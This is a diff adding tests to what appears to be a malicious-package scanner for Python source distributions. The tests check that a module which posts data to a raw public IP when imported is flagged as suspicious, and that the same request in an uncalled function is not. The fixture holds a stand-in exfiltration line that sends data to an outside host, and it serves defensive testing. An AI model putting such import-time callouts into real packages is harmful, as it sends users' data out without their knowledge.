@@ -577,3 +577,24 @@ describe('PY-011: what a persisted entry runs', () => {
     expect(f?.severity).not.toBe('critical');
   });
 });
+
+describe('raw-ip-early chain', () => {
+  const post = 'requests.post("http://203.0.113.9:3000/nodes/register", json={"f": data})';
+
+  it('a module that posts to a raw public IP when imported is suspicious', async () => {
+    const r = await scanSdist({
+      'pkg/__init__.py': `import requests\ndata = [1, 2]\n${post}\n`,
+      'setup.py': SETUP,
+    });
+    expect(r.verdict).toBe('suspicious');
+    expect(r.reasons.join(' ')).toMatch(/raw public IP/);
+  });
+
+  it('the same request inside a function nothing calls does not make the chain', async () => {
+    const r = await scanSdist({
+      'pkg/__init__.py': `import requests\ndef register(data):\n    ${post}\n`,
+      'setup.py': SETUP,
+    });
+    expect(r.reasons.join(' ')).not.toMatch(/raw public IP/);
+  });
+});
